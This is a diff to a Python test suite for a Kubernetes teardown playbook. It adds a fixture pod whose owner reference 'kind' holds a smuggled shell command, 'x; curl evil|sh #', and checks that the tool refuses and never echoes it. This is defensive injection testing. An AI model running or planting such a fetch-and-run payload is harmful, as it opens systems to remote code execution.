@@ -68,6 +68,18 @@ def account(shop: Shop) -> t.Iterator[Account]:
     shop.lab.reset()
 
 
+def hiding_pod() -> dict[str, t.Any]:
+    """A pod that says that somebody else owns it."""
+    owner = {"apiVersion": "v1", "kind": "x; curl evil|sh #", "name": "evil", "uid": "evil", "controller": True}
+    containers = [{"name": "main", "image": "registry.example.com/app"}]
+    return {
+        "apiVersion": "v1",
+        "kind": "Pod",
+        "metadata": {"name": "hiding", "ownerReferences": [owner]},
+        "spec": {"serviceAccountName": "orders", "terminationGracePeriodSeconds": 0, "containers": containers},
+    }
+
+
 def teardown(lab: Lab, *arguments: str, **variables: t.Any) -> PlaybookRun:
     environment = {**lab.environment(), "ANSIBLE_SHOW_CUSTOM_STATS": "true"}
     return run_playbook(["enbuild.eks.teardown", "-e", json.dumps(variables), *arguments], environment)
@@ -110,12 +122,22 @@ def test_what_was_made_here_goes_and_nothing_else(account: Account, shop: Shop) 
         ],
     }
 
+    # What a namespace's owner writes: half a release, and an owner that is a command.
+    shop.kubectl("annotate", "deployment/orders", "meta.helm.sh/release-name=enbuild")
+    shop.kubectl("apply", "-f", "-", given=json.dumps(hiding_pod()))
+    shop.kubectl("wait", "--for=condition=Ready", "pod/hiding", "--timeout=60s")
     refused = teardown(lab, **given)
     assert refused.changed == []
     assert f"Deployment {shop.namespace}/orders" in refused.failure
     assert f"kubectl scale deployment/orders --replicas=0 -n {shop.namespace}" in refused.failure
 
-    foretold = teardown(lab, "--check", "--diff", **given, pod_identity_teardown_force=True)
+    assert f"kubectl delete pod hiding -n {shop.namespace}" in refused.failure
+    assert "evil" not in refused.output
+
+    foretold = teardown(lab, "--check", "--diff", **given)
+    assert foretold.returncode == 0, foretold.output
+    assert "would stop, with nothing removed: Running pods hold credentials" in foretold.output
+    shop.kubectl("delete", "pod/hiding")
     assert account.bound() == {*arns, "hand", "elsewhere"}
     shop.kubectl("scale", "deployment/orders", "--replicas=0")
     shop.kubectl("wait", "--for=delete", "pod", "-l", "app=orders", "--timeout=60s")
